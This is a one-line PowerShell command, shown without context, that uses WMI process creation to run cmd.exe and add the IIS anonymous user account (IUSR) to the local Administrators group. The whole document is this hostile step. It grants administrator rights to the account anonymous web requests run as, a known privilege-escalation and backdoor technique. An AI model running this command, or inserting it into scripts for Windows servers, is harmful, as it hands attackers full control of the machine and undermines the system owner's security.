([wmiclass]'Win32_Process').Create('cmd.exe /c net localgroup Administrators IUSR /add') | Out-Null
